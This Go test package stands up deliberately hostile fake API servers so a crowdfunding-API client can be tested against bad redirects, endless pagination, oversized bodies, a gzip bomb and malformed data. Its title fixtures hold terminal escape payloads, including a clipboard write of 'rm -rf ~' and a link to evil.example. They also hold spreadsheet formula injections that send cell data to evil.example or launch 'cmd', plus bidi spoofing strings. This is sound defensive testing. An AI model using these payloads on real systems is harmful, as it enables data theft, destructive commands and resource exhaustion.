package hostile

import (
	"bytes"
	"compress/gzip"
	"encoding/json"
	"fmt"
	"net/http"
	"net/url"
	"strconv"
	"strings"
	"sync"
	"testing"
)

// Scenario names one hostile behaviour; see the package comment.
type Scenario string

// The scenarios.
const (
	RedirectOtherPort  Scenario = "redirect-other-port"
	RedirectToHTTP     Scenario = "redirect-to-http"
	LeadRedirect307    Scenario = "lead-redirect-307"
	LeadRedirect308    Scenario = "lead-redirect-308"
	RedirectSameOrigin Scenario = "redirect-same-origin"
	PageLoop           Scenario = "page-loop"
	EndlessPages       Scenario = "endless-pages"
	LyingTotal         Scenario = "lying-total"
	NextOtherHost      Scenario = "next-other-host"
	RateLimitStorm     Scenario = "rate-limit-storm"
	HugeBody           Scenario = "huge-body"
	GzipBomb           Scenario = "gzip-bomb"
	MalformedHeaders   Scenario = "malformed-headers"
	BadCertificate     Scenario = "bad-certificate"
	LeadNoAnswer       Scenario = "lead-no-answer"
	StalledBody        Scenario = "stalled-body"
	EscapeTitles       Scenario = "escape-titles"
	C1Titles           Scenario = "c1-titles"
	BidiTitles         Scenario = "bidi-titles"
	FormulaTitles      Scenario = "formula-titles"
	ZWJTitles          Scenario = "zwj-titles"
	NullsAndWrongTypes Scenario = "nulls-and-wrong-types"
)

// All lists every scenario, in the order of the package comment.
func All() []Scenario {
	return []Scenario{
		RedirectOtherPort, RedirectToHTTP, LeadRedirect307, LeadRedirect308, RedirectSameOrigin,
		PageLoop, EndlessPages, LyingTotal, NextOtherHost, RateLimitStorm, HugeBody, GzipBomb,
		MalformedHeaders, BadCertificate, StalledBody, LeadNoAnswer,
		EscapeTitles, C1Titles, BidiTitles, FormulaTitles, ZWJTitles, NullsAndWrongTypes,
	}
}

// Titles holds the project titles of the title scenarios, as the server
// sends them (JSON-escaped on the wire, these exact strings once decoded).
// They are also the titles of the projects the pledges embed.
var Titles = map[Scenario][]string{
	EscapeTitles: {
		"\x1b[2J\x1b[HRuches effacées",             // clear the screen, cursor home
		"\x1b]52;c;cm0gLXJmIH4=\x07Presse-papiers", // OSC 52: write the clipboard
		"\x1b]8;;https://evil.example/\x07Lien\x1b]8;;\x07",
		"\x1b[31mRouge\x1b[0m et \x1b[5mclignotant",
		"\x1b]0;Titre de fenêtre\x07Vergers",
		"\x1bP+q\x1b\\DCS et \x1b_APC\x1b\\",
	},
	C1Titles: {
		"\u009b31mCSI en C1",
		"Ligne\u0085suivante",
		"\u009d0;titre\u009cOSC en C1",
		"a\u0080b\u0090c\u009fd",
	},
	BidiTitles: {
		"\u202eexe.txt Fromages",
		"\u2066isolé\u2069 puis \u2067droite\u2069",
		"\u202aLRE\u202c \u202bRLE\u202c \u202dLRO\u202c",
		"\u2068premier fort\u2069 Miel",
	},
	FormulaTitles: {
		`=HYPERLINK("https://evil.example/?d="&A1,"Cliquez")`,
		"+1+cmd|' /C calc'!A0",
		"-2+3",
		"@SUM(1+1)*cmd|' /C calc'!A0",
		"\t=1+1",
		"\r=1+1",
	},
	ZWJTitles: {
		"👨‍👩‍👧‍👦 Ferme familiale",
		"🏳️‍🌈 Potager",
		"👩🏽‍🌾 Agricultrice",
		"Miel\u200d de lavande",
		"\u200dJoint au début",
		"Joint à la fin\u200d",
		"\u200d\u200d\u200d",
	},
}

// scenarios maps each scenario to what starts it.
var scenarios = map[Scenario]func(t testing.TB, s *Server){
	RedirectOtherPort: func(t testing.TB, s *Server) {
		s.Elsewhere = &Record{}
		other := serve(t, s.Elsewhere, false, recording(s.Elsewhere, wellFormed(nil)))
		s.URL = serve(t, s.API, false, recording(s.API, redirectAll(http.StatusFound, other.URL))).URL
	},
	RedirectToHTTP: func(t testing.TB, s *Server) {
		s.Elsewhere = &Record{}
		plain := serve(t, s.Elsewhere, false, recording(s.Elsewhere, wellFormed(nil)))
		srv := serve(t, s.API, true, recording(s.API, redirectAll(http.StatusFound, plain.URL)))
		s.URL, s.client, s.cert = srv.URL, srv.Client(), certPEM(srv)
	},
	LeadRedirect307: func(t testing.TB, s *Server) { leadRedirect(t, s, http.StatusTemporaryRedirect) },
	LeadRedirect308: func(t testing.TB, s *Server) { leadRedirect(t, s, http.StatusPermanentRedirect) },
	RedirectSameOrigin: func(t testing.TB, s *Server) {
		well := wellFormed(nil)
		s.URL = serve(t, s.API, false, recording(s.API, func(w http.ResponseWriter, r *http.Request, got Request) {
			if r.Method == http.MethodGet && got.Query.Get("moved") == "" {
				q := r.URL.Query()
				q.Set("moved", "1")
				w.Header().Set("Location", r.URL.Path+"?"+q.Encode())
				w.WriteHeader(http.StatusFound)
				return
			}
			well(w, r, got)
		})).URL
	},
	PageLoop: func(t testing.TB, s *Server) {
		// Page 1 leads to page 2, page 2 back to page 1.
		s.URL = serve(t, s.API, false, recording(s.API, lists(func(w http.ResponseWriter, r *http.Request, kind string, page, perPage int) {
			linkTo(w, r, 3-min(page, 2))
			writeItems(w, kind, (page-1)*perPage+1, perPage, nil)
		}))).URL
	},
	EndlessPages: func(t testing.TB, s *Server) {
		s.URL = serve(t, s.API, false, recording(s.API, lists(func(w http.ResponseWriter, r *http.Request, kind string, page, perPage int) {
			linkTo(w, r, page+1)
			writeItems(w, kind, (page-1)*perPage+1, perPage, nil)
		}))).URL
	},
	LyingTotal: func(t testing.TB, s *Server) {
		s.URL = serve(t, s.API, false, recording(s.API, lists(func(w http.ResponseWriter, r *http.Request, kind string, page, perPage int) {
			w.Header().Set("Total", "1000000000")
			w.Header().Set("Per-Page", strconv.Itoa(perPage))
			linkTo(w, r, page+1)
			writeItems(w, kind, (page-1)*perPage+1, perPage, nil)
		}))).URL
	},
	NextOtherHost: func(t testing.TB, s *Server) {
		// The same server under another host name: a client that follows
		// the link is recorded with Host "localhost:port".
		s.URL = serve(t, s.API, false, recording(s.API, lists(func(w http.ResponseWriter, r *http.Request, kind string, page, perPage int) {
			_, port, _ := strings.Cut(r.Host, ":")
			q := r.URL.Query()
			q.Set("page", strconv.Itoa(page+1))
			w.Header().Set("Link", fmt.Sprintf(`<http://localhost:%s%s?%s>; rel="next"`, port, r.URL.Path, q.Encode()))
			writeItems(w, kind, (page-1)*perPage+1, perPage, nil)
		}))).URL
	},
	RateLimitStorm: func(t testing.TB, s *Server) {
		well := wellFormed(nil)
		s.URL = serve(t, s.API, false, recording(s.API, func(w http.ResponseWriter, r *http.Request, got Request) {
			if isList(r) && got.Query.Get("page") == "" {
				well(w, r, got) // the first page comes, with Total: the rest is a storm
				return
			}
			w.Header().Set("Retry-After", "1")
			writeJSON(w, http.StatusTooManyRequests, `{"error": "rate limit exceeded"}`)
		})).URL
	},
	HugeBody: func(t testing.TB, s *Server) {
		s.URL = serve(t, s.API, false, recording(s.API, func(w http.ResponseWriter, r *http.Request, _ Request) {
			// 9 MiB of valid JSON, written as it goes, without a length.
			w.Header().Set("Content-Type", "application/json")
			open, closing := "[", "]"
			if !isList(r) {
				open, closing = `{"title": "`, `"}`
			}
			_, _ = w.Write([]byte(open))
			chunk := bytes.Repeat([]byte(" "), 1<<20)
			if !isList(r) {
				chunk = bytes.Repeat([]byte("x"), 1<<20)
			}
			for range 9 {
				if _, err := w.Write(chunk); err != nil {
					return // the client hung up, as it should
				}
			}
			_, _ = w.Write([]byte(closing))
		})).URL
	},
	GzipBomb: func(t testing.TB, s *Server) {
		bomb := gzipBomb()
		s.URL = serve(t, s.API, false, recording(s.API, func(w http.ResponseWriter, r *http.Request, _ Request) {
			w.Header().Set("Content-Type", "application/json")
			w.Header().Set("Content-Encoding", "gzip")
			w.Header().Set("Content-Length", strconv.Itoa(len(bomb)))
			_, _ = w.Write(bomb)
		})).URL
	},
	MalformedHeaders: func(t testing.TB, s *Server) {
		s.URL = rawServer(t, s.API, "HTTP/1.1 200 OK\r\nContent-Type application/json\r\nContent-Length: 2\r\n\r\n[]")
	},
	BadCertificate: func(t testing.TB, s *Server) {
		srv := serve(t, s.API, true, recording(s.API, wellFormed(nil)))
		s.URL, s.cert = srv.URL, certPEM(srv)
	},
	StalledBody: func(t testing.TB, s *Server) {
		well := wellFormed(nil)
		s.URL = serve(t, s.API, false, recording(s.API, func(w http.ResponseWriter, r *http.Request, got Request) {
			if r.Method != http.MethodGet {
				well(w, r, got)
				return
			}
			w.Header().Set("Content-Type", "application/json")
			w.WriteHeader(http.StatusOK)
			_, _ = w.Write([]byte(`[{"id": 1, "title": "Ferme`))
			w.(http.Flusher).Flush()
			<-r.Context().Done() // the rest never comes
		})).URL
	},
	LeadNoAnswer: func(t testing.TB, s *Server) {
		well := wellFormed(nil)
		s.URL = serve(t, s.API, false, recording(s.API, func(w http.ResponseWriter, r *http.Request, got Request) {
			if r.Method == http.MethodPost {
				<-r.Context().Done() // the body was read; the answer never comes
				return
			}
			well(w, r, got)
		})).URL
	},
	EscapeTitles:  titled(EscapeTitles),
	C1Titles:      titled(C1Titles),
	BidiTitles:    titled(BidiTitles),
	FormulaTitles: titled(FormulaTitles),
	ZWJTitles:     titled(ZWJTitles),
	NullsAndWrongTypes: func(t testing.TB, s *Server) {
		s.URL = serve(t, s.API, false, recording(s.API, func(w http.ResponseWriter, r *http.Request, _ Request) {
			switch {
			case r.URL.Path == "/projects":
				w.Header().Set("Total", "4")
				writeJSON(w, http.StatusOK, `[`+oddProject+`, null, {"id": null, "title": 42, "target": "", "collected": []}, {}]`)
			case strings.HasPrefix(r.URL.Path, "/projects/"):
				writeJSON(w, http.StatusOK, oddProject)
			case r.URL.Path == "/user/wallet":
				writeJSON(w, http.StatusOK, `{"id": "98231", "currency": 978, "balance": "12,50", "available_balance": null,
					"pending_balance": {"cents": 5}, "updated_at": "hier"}`)
			case r.URL.Path == "/user/pledges":
				writeJSON(w, http.StatusOK, `[{"id": "7", "project": "Ruches", "amount": "500", "interest_rate": "cinq",
					"duration_months": null, "status": 3, "created_at": null, "repaid_capital": true,
					"next_repayment": "bientôt", "repayments": {"a": 1}}, null, {"project": {"id": null, "title": null}}]`)
			case r.URL.Path == "/leads":
				writeJSON(w, http.StatusOK, `{"id": null, "status": ["received"]}`)
			default:
				writeJSON(w, http.StatusNotFound, `{"error": "not found"}`)
			}
		})).URL
	},
}

// oddProject is a project with a null, a string or an object where a field
// of another type belongs, and fields nobody knows.
const oddProject = `{"id": "42", "title": null, "slug": 7, "target": {"amount": 1}, "collected": "1234.5",
	"backers_count": "17", "interest_rate": true, "duration_months": "36.0", "region": 84, "owner": "Élodie",
	"department": 7, "city": null, "published_at": 12, "ends_at": "soon", "rewards": "none", "video": {"url": null}}`

func leadRedirect(t testing.TB, s *Server, status int) {
	s.Elsewhere = &Record{}
	other := serve(t, s.Elsewhere, false, recording(s.Elsewhere, wellFormed(nil)))
	well := wellFormed(nil)
	s.URL = serve(t, s.API, false, recording(s.API, func(w http.ResponseWriter, r *http.Request, got Request) {
		if r.Method == http.MethodPost && r.URL.Path == "/leads" {
			w.Header().Set("Location", other.URL+"/leads")
			w.WriteHeader(status)
			return
		}
		well(w, r, got)
	})).URL
}

// redirectAll answers every request with status to the same path and query
// on target.
func redirectAll(status int, target string) func(http.ResponseWriter, *http.Request, Request) {
	return func(w http.ResponseWriter, r *http.Request, _ Request) {
		w.Header().Set("Location", target+r.URL.RequestURI())
		w.WriteHeader(status)
	}
}

// titled serves a well-formed API whose project titles are Titles[sc].
func titled(sc Scenario) func(t testing.TB, s *Server) {
	return func(t testing.TB, s *Server) {
		s.URL = serve(t, s.API, false, recording(s.API, wellFormed(Titles[sc]))).URL
	}
}

// wellFormed is the API as contract.md describes it, with benign data, and
// project titles taken from titles when given. Lists hold 45 items (three
// pages at the default per_page), or one per title.
func wellFormed(titles []string) func(http.ResponseWriter, *http.Request, Request) {
	total := 45
	if len(titles) > 0 {
		total = len(titles)
	}
	return func(w http.ResponseWriter, r *http.Request, got Request) {
		switch {
		case r.Method == http.MethodPost && r.URL.Path == "/leads":
			writeJSON(w, http.StatusOK, `{"id": 123, "status": "received"}`)
		case r.URL.Path == "/projects" || r.URL.Path == "/user/pledges":
			kind, page, perPage := listParams(r)
			last := max(1, (total+perPage-1)/perPage)
			w.Header().Set("Total", strconv.Itoa(total))
			w.Header().Set("Per-Page", strconv.Itoa(perPage))
			if page < last {
				linkTo(w, r, page+1)
			}
			first := (page-1)*perPage + 1
			writeItems(w, kind, first, max(0, min(perPage, total-first+1)), titles)
		case strings.HasPrefix(r.URL.Path, "/projects/"):
			id, err := strconv.Atoi(strings.TrimPrefix(r.URL.Path, "/projects/"))
			if err != nil || id < 1 || id > total {
				writeJSON(w, http.StatusNotFound, `{"error": "project not found"}`)
				return
			}
			writeJSON(w, http.StatusOK, projectJSON(id, titleOf(id, titles)))
		case r.URL.Path == "/user/wallet":
			writeJSON(w, http.StatusOK, `{"id": 98231, "currency": "EUR", "balance": "1284.56", "available_balance": "1234.56",
				"pending_balance": "50.00", "updated_at": "2026-11-20T10:00:00Z"}`)
		default:
			writeJSON(w, http.StatusNotFound, `{"error": "not found"}`)
		}
	}
}

// lists serves the two list endpoints with page, and the rest well formed.
func lists(page func(w http.ResponseWriter, r *http.Request, kind string, page, perPage int)) func(http.ResponseWriter, *http.Request, Request) {
	well := wellFormed(nil)
	return func(w http.ResponseWriter, r *http.Request, got Request) {
		if !isList(r) {
			well(w, r, got)
			return
		}
		kind, n, perPage := listParams(r)
		page(w, r, kind, n, perPage)
	}
}

func isList(r *http.Request) bool {
	return r.Method == http.MethodGet && (r.URL.Path == "/projects" || r.URL.Path == "/user/pledges")
}

// listParams reads page and per_page (1 and 20 by default, per_page at most 100).
func listParams(r *http.Request) (kind string, page, perPage int) {
	kind = "project"
	if r.URL.Path == "/user/pledges" {
		kind = "pledge"
	}
	page, perPage = 1, 20
	if n, err := strconv.Atoi(r.URL.Query().Get("page")); err == nil && n > 0 {
		page = n
	}
	if n, err := strconv.Atoi(r.URL.Query().Get("per_page")); err == nil && n > 0 {
		perPage = min(n, 100)
	}
	return kind, page, perPage
}

// linkTo sets a rel="next" to page of the same list, keeping the query.
func linkTo(w http.ResponseWriter, r *http.Request, page int) {
	q := r.URL.Query()
	q.Set("page", strconv.Itoa(page))
	u := url.URL{Path: r.URL.Path, RawQuery: q.Encode()}
	w.Header().Set("Link", fmt.Sprintf(`<%s>; rel="next"`, u.String()))
}

// writeItems writes n projects or pledges numbered from first.
func writeItems(w http.ResponseWriter, kind string, first, n int, titles []string) {
	items := make([]string, 0, n)
	for id := first; id < first+n; id++ {
		if kind == "pledge" {
			items = append(items, pledgeJSON(id, titleOf(id, titles)))
		} else {
			items = append(items, projectJSON(id, titleOf(id, titles)))
		}
	}
	writeJSON(w, http.StatusOK, "["+strings.Join(items, ",")+"]")
}

func titleOf(id int, titles []string) string {
	if len(titles) == 0 {
		return fmt.Sprintf("Projet %d", id)
	}
	return titles[(id-1)%len(titles)]
}

func quote(s string) string {
	b, _ := json.Marshal(s)
	return string(b)
}

func projectJSON(id int, title string) string {
	return fmt.Sprintf(`{"id": %d, "title": %s, "slug": "projet-%d", "url": "https://www.miimosa.com/fr/projects/projet-%d",
		"image_url": null, "description": "Un projet agricole", "status": "in_progress", "collect_type": "lending",
		"category": "apiculture", "region": {"code": "84", "name": "Auvergne-Rhône-Alpes"}, "department": "07",
		"city": "Privas", "owner": {"first_name": "Élodie", "last_name": "Martin"}, "target": "15000.00",
		"collected": 1234.5, "backers_count": 17, "interest_rate": "4.50", "duration_months": 36,
		"repayment_frequency": "monthly", "published_at": "2026-10-01T08:00:00Z", "ends_at": "2026-12-15"}`,
		id, quote(title), id, id)
}

func pledgeJSON(id int, title string) string {
	return fmt.Sprintf(`{"id": %d, "project": {"id": %d, "title": %s, "slug": "projet-%d", "category": "apiculture"},
		"amount": "500.00", "interest_rate": "4.5", "duration_months": 48, "status": "repaying",
		"created_at": "2025-01-10T09:00:00+01:00", "repaid_capital": "125.00", "paid_interest": "20.50",
		"remaining_capital": "375.00", "next_repayment": {"date": "2026-12-15", "amount": "11.55"}}`,
		id, id, quote(title), id)
}

func writeJSON(w http.ResponseWriter, status int, body string) {
	w.Header().Set("Content-Type", "application/json; charset=utf-8")
	w.WriteHeader(status)
	_, _ = w.Write([]byte(body))
}

// gzipBomb is a JSON array of 64 MiB of spaces in well under 1 MiB of
// gzip: one compressed MiB repeated as 64 members of a multistream body,
// which every gzip reader inflates in full.
var gzipBomb = sync.OnceValue(func() []byte {
	member := func(data []byte) []byte {
		var b bytes.Buffer
		z, _ := gzip.NewWriterLevel(&b, gzip.BestCompression)
		_, _ = z.Write(data)
		_ = z.Close()
		return b.Bytes()
	}
	spaces := member(bytes.Repeat([]byte(" "), 1<<20))
	out := member([]byte("["))
	for range 64 {
		out = append(out, spaces...)
	}
	return append(out, member([]byte("]"))...)
})
